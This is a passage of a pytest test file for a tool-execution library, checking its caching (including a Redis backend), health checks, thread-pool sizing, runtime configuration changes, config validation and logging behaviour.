    assert 'tool_executions_total{operation="double",status="success",tool_name="Documented"} 1.0' in text
    for name in ("tool_duration_seconds_count", "tool_cache_hits_total", "tool_executor_active_threads"):
        assert f"\n{name}" in text


class Shared(BaseTool):
    runs: ClassVar[list[int]] = []

    @cache_result(ttl=60)
    async def double(self, n: int) -> int:
        self.runs.append(n)
        return 2 * n


async def test_the_documented_variables_put_the_cache_into_redis(
    monkeypatch: pytest.MonkeyPatch, redis_url: str
) -> None:
    import redis

    monkeypatch.setenv("TOOL_EXECUTOR_CACHE_BACKEND", "redis")
    monkeypatch.setenv("TOOL_EXECUTOR_CACHE_REDIS_URL", redis_url)
    monkeypatch.setenv("TOOL_EXECUTOR_CACHE_PREFIX", "documented")
    for _ in range(2):  # two executors, as two processes would have them
        with ToolExecutor() as executor:
            assert await executor.execute_async(Shared(), "double", n=4) == 8

    assert Shared.runs == [4]
    with redis.Redis.from_url(redis_url) as client:
        assert all(b"documented" in key for key in client.scan_iter())


def test_code_outranks_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOOL_EXECUTOR_CACHE_SIZE", "1000")

    with ToolExecutor({"cache_size": 5}) as executor:
        assert executor.config.cache_size == 5


def test_an_unknown_variable_is_refused_with_the_nearest_known_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOOL_EXECUTOR_CACHE_SISE", "1000")

    with pytest.raises(ConfigurationError, match="TOOL_EXECUTOR_CACHE_SIZE"):
        ToolExecutor()


def checked_health(executor: ToolExecutor) -> dict[str, Any]:
    """What the document's health check looks at."""
    pool = executor._thread_pool
    parts = {
        "thread_pool_active": pool._threads is not None,
        "cache_enabled": executor.config.enable_cache,
        "metrics_available": len(executor.get_metrics()) > 0,
    }
    status = "healthy" if all(parts.values()) else "degraded"
    return {"status": status, **parts, "active_threads": len(pool._threads), "timestamp": time.time()}


def test_a_health_check_written_by_hand_finds_what_it_looks_for(executor: ToolExecutor) -> None:
    ThreadTool.here.__get__(in_executor(ThreadTool(), executor))()

    health = checked_health(executor)

    assert health["status"] == "healthy"
    assert health["active_threads"] == 1


def in_executor(tool: BaseTool, executor: ToolExecutor) -> BaseTool:
    """The tool, using that executor."""
    tool._executor = executor
    return tool


async def test_health_has_the_keys_of_both_documents(executor: ToolExecutor) -> None:
    health = await executor.health_check()

    assert health["healthy"] is True
    assert health["status"] == "healthy"
    assert {"thread_pool_active", "cache_enabled", "metrics_available", "active_threads", "timestamp"} <= set(health)
    assert health["timestamp"] == pytest.approx(time.time(), abs=60)
    executor.close()
    closed = await executor.health_check()
    assert (closed["healthy"], closed["status"]) == (False, "unhealthy")


# 8.2 the thread pool


class HeldTool(BaseTool):
    """Holds its thread until it is let go."""

    def __init__(self) -> None:
        super().__init__()
        self.release = threading.Event()
        self.started = threading.Semaphore(0)

    def hold(self) -> str:
        self.started.release()
        self.release.wait(PATIENCE_S)
        return "let go"

    def quick(self, n: int) -> int:
        return sum(range(n))


@pytest.fixture
def held() -> Iterator[HeldTool]:
    tool = HeldTool()
    yield tool
    tool.release.set()


async def test_the_pools_threads_queue_and_size_can_be_looked_at(held: HeldTool) -> None:
    with executor_for(held, max_workers=2, io_concurrency=32) as executor:
        pool = executor._thread_pool
        tasks = [asyncio.ensure_future(held.run_async("hold")) for _ in range(7)]
        for _ in range(2):
            await asyncio.to_thread(held.started.acquire)

        assert len(pool._threads) == 2
        assert pool._work_queue.qsize() == 5
        assert pool._max_workers == 2
        assert executor.health()["status"] == "degraded"  # more than twice as many wait as can work
        held.release.set()
        assert await asyncio.gather(*tasks) == ["let go"] * 7
        assert pool._work_queue.qsize() == 0


async def test_max_workers_can_be_raised_while_calls_wait(held: HeldTool) -> None:
    with executor_for(held, max_workers=1) as executor:
        tasks = [asyncio.ensure_future(held.run_async("hold")) for _ in range(3)]
        await asyncio.to_thread(held.started.acquire)

        executor.config.max_workers = 3

        assert executor._thread_pool._max_workers == 3
        for _ in range(2):
            assert await asyncio.to_thread(held.started.acquire, timeout=PATIENCE_S)
        held.release.set()
        await asyncio.gather(*tasks)


def test_the_documented_sizes_make_an_executor() -> None:
    with ToolExecutor({"max_workers": 16, "io_concurrency": 32}) as executor:
        assert executor._thread_pool._max_workers == 16
        assert executor.config.io_concurrency == 32


def test_a_hit_rate_can_be_worked_out_from_the_metrics(squares: SquareTool) -> None:
    for _ in range(4):
        squares.by_default(1)

    metrics = squares._executor.get_metrics()

    assert f"{metrics.get('cache_hits', 0) / metrics.get('requests', 0):.2%}" == "75.00%"


def test_security_level_can_be_lowered_to_medium_against_false_alarms() -> None:
    tool = GuardedTool()
    with ToolExecutor({"enable_security_checks": True, "security_level": "medium"}) as executor:
        tool._executor = executor

        assert (
            tool.run("note", text="SELECT your seat -- then INSERT a coin;")
            == "SELECT your seat -- then INSERT a coin;"
        )


# 8.3 tuning while running


def test_cache_settings_assigned_to_a_running_executor_take_effect_on_the_next_call(
    squares: SquareTool, clock: FakeClock
) -> None:
    config = squares._executor.config
    squares.by_default(0)

    config.cache_size = min(config.cache_size * 2, 10000)
    config.cache_ttl = min(config.cache_ttl * 2, 86400)
    squares.by_default(1)
    clock.advance(3601)
    squares.by_default(0)
    squares.by_default(1)

    assert (config.cache_size, config.cache_ttl) == (2000, 7200)
    assert squares.runs == 3  # what was kept before the change went at its old time, what came after is still there


def test_workers_can_be_adjusted_to_the_cores(executor: ToolExecutor) -> None:
    best = min((os.cpu_count() or 4) * 2, 16)

    executor.config.max_workers = best

    assert executor._thread_pool._max_workers == best


@pytest.mark.parametrize(("setting", "wrong"), [("cache_size", 0), ("max_workers", "4"), ("security_level", "mild")])
def test_a_wrong_assignment_is_refused_and_changes_nothing(executor: ToolExecutor, setting: str, wrong: Any) -> None:
    before = getattr(executor.config, setting)

    with pytest.raises(ConfigurationError, match=setting):
        setattr(executor.config, setting, wrong)
    with pytest.raises(ConfigurationError, match="did you mean 'cache_size'"):
        executor.config.cache_sise = 5  # type: ignore[attr-defined]

    assert getattr(executor.config, setting) == before


def test_an_executor_takes_a_config_object_too() -> None:
    with ToolExecutor(ExecutorConfig(cache_size=5000)) as executor:
        assert executor.config.cache_size == 5000


# 8.4 logs


@pytest.fixture
def log_file(tmp_path: Path) -> Iterator[Path]:
    """A file that the logger writes to, set up as the document does."""
    path = tmp_path / "tool_executor.log"
    logger = logging.getLogger("toolpost")
    level = logger.level
    handler = logging.FileHandler(path)
    handler.setFormatter(logging.Formatter("%(asctime)s - %(name)s - %(levelname)s - %(message)s"))
    logger.setLevel(logging.INFO)
    logger.addHandler(handler)
    yield path
    logger.removeHandler(handler)
    logger.setLevel(level)
    handler.close()


def lines_with(pattern: str, path: Path) -> list[str]:
    return [line for line in path.read_text().splitlines() if pattern in line]


def test_the_log_has_the_documented_patterns(log_file: Path) -> None:
    tool, edge = SquareTool(), EdgeTool()
    tool.by_default(1)
    tool.by_default(1)
    for operation, arguments in (("raises", {}), ("guarded", {"text": MALICIOUS[1]})):
        with pytest.raises(ToolExecutionError):
            edge.run(operation, **arguments)

    assert len(lines_with("ERROR", log_file)) == 1
    (executed,) = lines_with("executed in", log_file)
    assert float(executed.split()[-1].removesuffix("s")) < PATIENCE_S
    assert len(lines_with("Cache hit", log_file)) == 1
    assert len(lines_with("SecurityError", log_file)) == 1
    assert MALICIOUS[1] not in log_file.read_text()


def test_log_execution_time_off_leaves_successes_out(log_file: Path) -> None:
    tool = SquareTool()
    with executor_for(tool, log_execution_time=False):
        tool.by_default(1)
        with pytest.raises(OperationError):
            tool.run("fails")

    assert lines_with("executed in", log_file) == []
    assert len(lines_with("ERROR", log_file)) == 1
